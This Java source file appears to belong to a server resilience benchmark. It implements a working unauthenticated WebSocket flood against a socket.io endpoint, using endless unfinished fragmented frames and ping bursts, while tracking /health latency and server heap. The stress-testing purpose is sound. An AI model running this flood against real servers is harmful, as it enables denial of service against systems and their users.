package dev.realtime.bench.attack;

import dev.realtime.bench.probe.ShellProbe;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Many connections without credentials that never read: each upgrades, then sends a fragmented message that
 * never ends (64 KiB continuation frames, FIN never set) mixed with ping bursts, and reconnects whenever the
 * server drops it. Meanwhile {@code /health} is asked once a second and the server's live heap is sampled.
 *
 * <pre>
 * java -jar realtime-bench.jar flood --port 3101 --http-port 3102 --connections 50 --seconds 60 \
 *      --heap-cmd "jcmd PID GC.run >/dev/null && jcmd PID GC.heap_info | ..."
 * </pre>
 */
public final class UnauthenticatedFlood {
    private static final int FRAGMENT = 64 * 1024;
    private static final int PINGS_PER_BURST = 10_000;

    private final String host;
    private final int port;
    private final AtomicLong drops = new AtomicLong();
    private volatile boolean running = true;

    private UnauthenticatedFlood(String host, int port) {
        this.host = host;
        this.port = port;
    }

    /**
     * Runs the attack and prints what the server did.
     *
     * @param heap prints the server's live heap in bytes (sampled every 10 s), or disabled
     */
    public static void run(String host, int port, int httpPort, int connections, int seconds, ShellProbe heap)
            throws Exception {
        new UnauthenticatedFlood(host, port).run(connections, seconds, httpPort, heap);
    }

    private void run(int connections, int seconds, int httpPort, ShellProbe heap) throws Exception {
        List<Thread> attackers = new ArrayList<>();
        for (int i = 0; i < connections; i++) {
            Thread t = new Thread(this::attackUntilStopped, "attacker-" + i);
            t.setDaemon(true);
            t.start();
            attackers.add(t);
        }
        HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
        URI health = URI.create("http://" + host + ":" + httpPort + "/health");
        long maxHealthMillis = 0;
        int healthFailures = 0;
        long maxHeap = -1;
        long deadline = System.nanoTime() + Duration.ofSeconds(seconds).toNanos();
        for (int second = 1; System.nanoTime() < deadline; second++) {
            long started = System.nanoTime();
            try {
                HttpResponse<String> answer = http.send(HttpRequest.newBuilder(health)
                        .timeout(Duration.ofSeconds(2)).build(), HttpResponse.BodyHandlers.ofString());
                if (answer.statusCode() != 200) {
                    healthFailures++;
                }
            } catch (IOException e) {
                healthFailures++;
            }
            long millis = (System.nanoTime() - started) / 1_000_000;
            maxHealthMillis = Math.max(maxHealthMillis, millis);
            if (second % 10 == 0 && heap.enabled()) {
                long bytes = heap.read();
                maxHeap = Math.max(maxHeap, bytes);
                System.out.printf("t=%ds live heap %.1f MB, /health %d ms, connections dropped %d%n", second,
                        bytes / 1e6, millis, drops.get());
            }
            Thread.sleep(Math.max(0, 1000 - millis)); // pace the health checks at one per second
        }
        running = false;
        for (Thread t : attackers) {
            t.join(5_000);
        }
        System.out.printf("connections %d, seconds %d: connections dropped by the server %d, /health failures %d, "
                        + "slowest /health %d ms, highest live heap %.1f MB%n", connections, seconds,
                drops.get(), healthFailures, maxHealthMillis, maxHeap / 1e6);
    }

    private void attackUntilStopped() {
        while (running) {
            try (Socket socket = new Socket()) {
                socket.setReceiveBufferSize(4096);
                socket.connect(new InetSocketAddress(host, port), 5_000);
                OutputStream out = socket.getOutputStream();
                out.write(upgrade());
                out.write(frame(0x01, FRAGMENT)); // a text message that never ends
                while (running) {
                    out.write(frame(0x00, FRAGMENT));
                    out.write(pingBurst());
                }
            } catch (IOException dropped) {
                drops.incrementAndGet();
            }
        }
    }

    private static byte[] upgrade() {
        byte[] key = new byte[16];
        ThreadLocalRandom.current().nextBytes(key);
        return ("GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n"
                + "Connection: Upgrade\r\nSec-WebSocket-Key: " + Base64.getEncoder().encodeToString(key)
                + "\r\nSec-WebSocket-Version: 13\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A masked frame without FIN (all-zero mask, payload of zeros). */
    private static byte[] frame(int opcode, int length) {
        byte[] frame = new byte[14 + length];
        frame[0] = (byte) opcode;
        frame[1] = (byte) (0x80 | 127);
        for (int i = 0; i < 8; i++) {
            frame[2 + i] = (byte) ((long) length >> (56 - 8 * i));
        }
        return frame;
    }

    private static byte[] pingBurst() {
        byte[] burst = new byte[PINGS_PER_BURST * 6];
        for (int i = 0; i < PINGS_PER_BURST; i++) {
            burst[i * 6] = (byte) 0x89;
            burst[i * 6 + 1] = (byte) 0x80;
        }
        return burst;
    }
}
